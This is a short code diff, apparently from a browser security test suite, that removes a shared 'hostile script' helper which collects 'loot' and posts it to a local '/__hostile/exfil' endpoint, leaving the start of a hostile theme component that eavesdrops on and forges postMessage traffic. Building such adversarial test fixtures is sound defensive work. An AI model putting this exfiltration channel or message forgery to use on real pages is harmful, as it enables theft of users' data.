@@ -1,23 +1,3 @@
-// Shared by every hostile script (each must work alone): an exfiltration channel that keeps the
-// page's original fetch, and an in-page loot list tests can read with Selenium.
-(function () {
-  if (window.__hostile) return;
-  const origFetch = window.fetch.bind(window);
-  const loot = [];
-  window.__hostile = {
-    loot,
-    origFetch,
-    send(kind, data) {
-      const item = { kind, page: location.href, at: Date.now(), data };
-      loot.push(item);
-      try {
-        origFetch("/__hostile/exfil", { method: "POST", keepalive: true, credentials: "same-origin",
-          headers: { "Content-Type": "text/plain" }, body: JSON.stringify(item) }).catch(() => {});
-      } catch (e) { /* keep going */ }
-    },
-  };
-})();
-
 // Hostile theme component: listen to every postMessage, and forge messages to every frame and the window.
 (function () {
   const H = window.__hostile;
